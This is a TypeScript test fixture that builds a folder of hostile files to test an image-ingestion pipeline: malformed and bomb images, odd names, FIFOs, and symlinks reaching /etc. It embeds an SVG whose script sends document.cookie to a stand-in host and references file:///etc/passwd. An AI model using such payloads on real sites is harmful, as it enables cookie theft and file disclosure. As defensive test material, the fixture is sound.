import { execFile } from 'node:child_process';
import { chmod, copyFile, mkdir, open, readFile, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import sharp from 'sharp';
import { blackPng } from './bombs.ts';
import type { CandidateState, DroppedReason, FailedReason } from '../../src/core/kernel/reasons.ts';

const SAMPLES = fileURLToPath(new URL('../fixtures/samples/photos/', import.meta.url));
const LION = join(SAMPLES, 'n02129165/lion-standing.jpg');
const GOLDFISH = join(SAMPLES, 'n01443537/goldfish.jpg');

interface HostileFile {
  /** The class that its place gives it: the first part of its path. */
  readonly label: string;
  /** In the folder source: `found`, or why the file is not fetched. */
  readonly discovered: Verdict;
  /** In the catalogue after the fetch step, for a collection that has the wnids of test/fixtures/samples and takes any licence. */
  readonly fetched: Verdict;
}

type Verdict = { readonly state: CandidateState; readonly reason: DroppedReason | FailedReason | null };

const FOUND: Verdict = { state: 'found', reason: null };
const FETCHED: Verdict = { state: 'fetched', reason: null };
const failed = (reason: FailedReason): Verdict => ({ state: 'failed', reason });
const dropped = (reason: DroppedReason): Verdict => ({ state: 'dropped', reason });

/**
 * Fills a folder (made if need be; give a new one) with what people's folders and attackers' hold: two classes of
 * test/fixtures/samples, n02129165 and n01443537, with good photos, and every kind of file, name and link that has broken
 * a program like this one. Needs Linux: FIFO, symbolic links and names that are not UTF-8.
 *
 * One file has mode 000, which root reads nevertheless; what is expected of it was found by trying. To remove the
 * folder, `rm(dir, { recursive: true })` is enough.
 *
 * @returns files by the relative path as it stands in the source id, before the `@`, and relative paths that the source passes over
 */
export async function makeHostileFolder(dir: string) {
  const files = new Map<string, HostileFile>();
  for (const part of [goodPhotos, pictureFiles, strangeNames, nodesAndLinks]) {
    for (const [path, verdicts] of await part(dir)) {
      files.set(path, { label: path.includes('/') ? (path.split('/')[0] ?? '') : '', ...verdicts });
    }
  }
  return { files, ignored: await ignoredFiles(dir) };
}

type Verdicts = readonly (readonly [path: string, verdicts: Omit<HostileFile, 'label'>])[];

async function goodPhotos(dir: string): Promise<Verdicts> {
  const deep = `n02129165/${Array.from({ length: 40 }, (_, level) => `level-${level}`).join('/')}/lion.jpg`;
  const good = ['n02129165/lion.jpg', 'n01443537/goldfish.jpg', 'n01443537/x.jpg/goldfish.jpg', deep];
  for (const path of good) await copy(path.includes('lion') ? LION : GOLDFISH, join(dir, path));
  await copy(GOLDFISH, join(dir, 'not-a-class/goldfish.jpg'));
  await copy(GOLDFISH, join(dir, 'no-folder.jpg'));
  const unknownClass = { discovered: FOUND, fetched: dropped('unknown-class') };
  return [
    ...good.map((path) => [path, { discovered: FOUND, fetched: FETCHED }] as const),
    ['not-a-class/goldfish.jpg', unknownClass],
    ['no-folder.jpg', unknownClass],
  ];
}

/** Files that only a look into their bytes tells apart. */
async function pictureFiles(dir: string): Promise<Verdicts> {
  const photo = await readFile(LION);
  const files: readonly (readonly [name: string, content: Buffer, fetched: Verdict])[] = [
    ['zero-bytes.jpg', Buffer.alloc(0), failed('not-an-image')],
    ['text.jpg', Buffer.from('This is a letter and no photo.\n'), failed('not-an-image')],
    ['truncated.jpg', photo.subarray(0, Math.floor(photo.length / 2)), failed('truncated')],
    ['bomb.png', await blackPng(30_000), failed('too-many-pixels')],
    ['animated.gif', animatedGif(), failed('unsupported-format')],
    ['cmyk.jpg', await sharp(photo).toColourspace('cmyk').jpeg().toBuffer(), FETCHED],
    ['sixteen-bit.png', await sharp(photo).toColourspace('rgb16').png().toBuffer(), FETCHED],
    ['script.svg', Buffer.from(SVG_WITH_SCRIPT), failed('unsupported-format')],
    ['phone.heic', heicHeader(), failed('unsupported-format')],
  ];
  for (const [name, content] of files) await writeFile(join(dir, 'n02129165', name), content);
  return files.map(([name, , fetched]) => [`n02129165/${name}`, { discovered: FOUND, fetched }]);
}

async function strangeNames(dir: string): Promise<Verdicts> {
  const folder = join(dir, 'n01443537');
  const names = [
    ' two  spaces .jpg',
    `it's "quoted", 50% #1?.jpg`,
    'two\nlines.jpg',
    'fish \u{1f420}\u200d.jpg',
    String.raw`back\slash.jpg`,
    String.raw`looks-escaped-\xff.jpg`,
    '-rf.jpg',
    `${'long'.repeat(62)}.jpg`,
  ];
  for (const name of names) await copy(GOLDFISH, join(folder, name));
  // ISO 8859-1, half a UTF-8 sequence, and a surrogate: none of them is UTF-8.
  const bytes = Buffer.from('caf\xe9-\xe2\x82-\xed\xa0\x80.jpg', 'latin1');
  await copyFile(GOLDFISH, Buffer.concat([Buffer.from(`${folder}/`), bytes]));
  const shown = [
    ...names.map((name) => name.replace(String.raw`\xff`, String.raw`\x5cxff`)),
    String.raw`caf\xe9-\xe2\x82-\xed\xa0\x80.jpg`,
  ];
  return shown.map((name) => [`n01443537/${name}`, { discovered: FOUND, fetched: FETCHED }]);
}

async function nodesAndLinks(dir: string): Promise<Verdicts> {
  const folder = join(dir, 'n02129165');
  await copy(LION, join(folder, 'mode-000.jpg'));
  await chmod(join(folder, 'mode-000.jpg'), 0o000);
  const readable = await canOpen(join(folder, 'mode-000.jpg'));
  await promisify(execFile)('mkfifo', [join(folder, 'fifo.jpg')]);
  await symlink('/etc', join(folder, 'link-to-etc'));
  await symlink(GOLDFISH, join(folder, 'link-to-outside.jpg'));
  await symlink('missing.jpg', join(folder, 'link-to-nothing.jpg'));
  await symlink('lion.jpg', join(folder, 'link-to-lion.jpg'));
  await symlink('..', join(folder, 'link-cycle'));
  await symlink('link-to-itself', join(folder, 'link-to-itself'));
  const outside = { discovered: dropped('outside-folder'), fetched: dropped('outside-folder') };
  const unreadable = { discovered: failed('unreadable'), fetched: failed('unreadable') };
  const good = { discovered: FOUND, fetched: FETCHED };
  return [
    ['n02129165/mode-000.jpg', readable ? good : unreadable],
    ['n02129165/fifo.jpg', unreadable],
    ['n02129165/link-to-etc', outside],
    ['n02129165/link-to-outside.jpg', outside],
    ['n02129165/link-to-nothing.jpg', unreadable],
    ['n02129165/link-to-lion.jpg', good],
    ['n02129165/link-cycle', unreadable],
    ['n02129165/link-to-itself', unreadable],
  ];
}

async function ignoredFiles(dir: string): Promise<readonly string[]> {
  const paths = ['.DS_Store', 'n02129165/.hidden.jpg', 'n02129165/Thumbs.db', 'n02129165/desktop.ini'];
  for (const path of paths) await writeFile(join(dir, path), 'left by a system');
  await copy(LION, join(dir, '.trash/lion.jpg'));
  return [...paths, '.trash'];
}

async function copy(from: string, to: string): Promise<void> {
  await mkdir(dirname(to), { recursive: true });
  await copyFile(from, to);
}

async function canOpen(path: string): Promise<boolean> {
  try {
    await (await open(path)).close();
    return true;
  } catch {
    return false;
  }
}

/** GIF89a of one pixel: a palette of two colours, an endless loop, and two frames of a tenth of a second. */
function animatedGif(): Buffer {
  const frame = '21f904000a0000002c000000000100010000';
  const loop = '21ff0b4e45545343415045322e300301000000';
  const parts = ['474946383961', '01000100800000', '000000ffffff', loop];
  return Buffer.from([...parts, `${frame}0202440100`, `${frame}02024c0100`, '3b'].join(''), 'hex');
}

/** The file type box of HEIC (ISO/IEC 23008-12), and nothing that could be decoded. */
function heicHeader(): Buffer {
  return Buffer.concat([Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic', 'latin1'), Buffer.alloc(1000)]);
}

const SVG_WITH_SCRIPT = `<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="300" height="300" onload="alert(1)">
  <script>fetch('https://example.invalid/' + document.cookie)</script>
  <image href="file:///etc/passwd" width="300" height="300"/>
</svg>
`;
